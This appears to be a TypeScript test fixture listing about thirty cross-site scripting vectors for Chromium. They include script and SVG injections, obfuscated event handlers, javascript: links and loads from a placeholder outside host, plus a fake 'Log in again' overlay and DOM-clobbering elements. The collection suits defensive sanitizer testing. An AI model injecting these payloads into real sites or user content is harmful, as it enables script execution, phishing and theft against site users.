// Ways to make stored HTML act in Chromium, one of each kind. RUN is script that notifies the test, OUT an address of
// another site.

interface Vector {
  name: string
  html: string
}

const vectors: [name: string, html: string][] = [
  ['a script', '<script>RUN</script>'],
  ['a module from another site', '<script type="module">import "OUT"</script>'],
  ['a script in svg', '<svg><script href="data:,RUN"/></svg>'],
  ['a script after a closed textarea', '</textarea><script>RUN</script>'],
  ['an event handler after slashes', '<img/src="data:,"/onerror="RUN">'],
  ['an event handler in entities', '<img src="data:," onerror="&#114;&#97;&#110;&#x28;N&#x29;">'],
  ['an image of another site with backslashes', '<img src="\\\\elsewhere.example/N/">'],
  ['an image set of another site', '<picture><source srcset="OUT"><img src="data:,"></picture>'],
  ['svg that begins to animate', '<svg><animate onbegin="RUN" attributeName="x" dur="1s">'],
  [
    'svg that sets an address',
    '<svg><a><set attributeName="href" to="javascript:RUN"/><text y="20">Press</text></a></svg>',
  ],
  ['svg with xlink:href', '<svg><a xlink:href="javascript:RUN"><text y="20">Press</text></a></svg>'],
  ['html in svg', '<svg><foreignObject><img src="data:," onerror="RUN"></foreignObject></svg>'],
  ['a link in math', '<math><mtext><a href="javascript:RUN">Press</a></mtext></math>'],
  ['a javascript: link with a tab in it', '<a href="jav&#x09;ascript:RUN">Press</a>'],
  ['an iframe with its own html', '<iframe srcdoc="&lt;img src=data:, onerror=parent.RUN&gt;"></iframe>'],
  ['an object of another site', '<object data="OUT"></object>'],
  ['a base address', '<base href="OUT"><img src="x.png">'],
  ['a refresh', '<meta http-equiv="refresh" content="0; url=OUT">'],
  ['a style sheet that imports', '<style>@import "OUT";</style>'],
  [
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
  ],
  ['a legacy attribute with an address', '<table background="OUT"><tr><td>Words</td></tr></table>'],
  ['a handler that needs no action', '<details open ontoggle="RUN"><summary>More</summary>Words</details>'],
  ['a handler on focus', '<input autofocus onfocus="RUN">'],
  ['a handler on hover', '<p onpointerover="RUN">Words</p>'],
  ['a media element', '<video><source onerror="RUN" src="data:,"></video>'],
  ['a button with an action', '<form><button formaction="javascript:RUN">Send</button></form>'],
  [
    'a template with a shadow root',
    '<div><template shadowrootmode="open"><img src="data:," onerror="RUN"></template></div>',
  ],
  ['an image that takes the place of a function', '<img name="querySelector">'],
  ['a link that takes the place of a global', '<a id="school" href="OUT">Words</a>'],
]

/** The vectors; `ran(N)` and `https://elsewhere.example/N/` name them by their index. */
export const xssVectors: Vector[] = vectors.map(([name, html], index) => ({
  name,
  html: html
    .replaceAll('RUN', `ran(${index})`)
    .replaceAll('OUT', `https://elsewhere.example/${index}/`)
    .replaceAll('/N/', `/${index}/`)
    .replaceAll('x28;N&', `x28;${index}&`),
}))
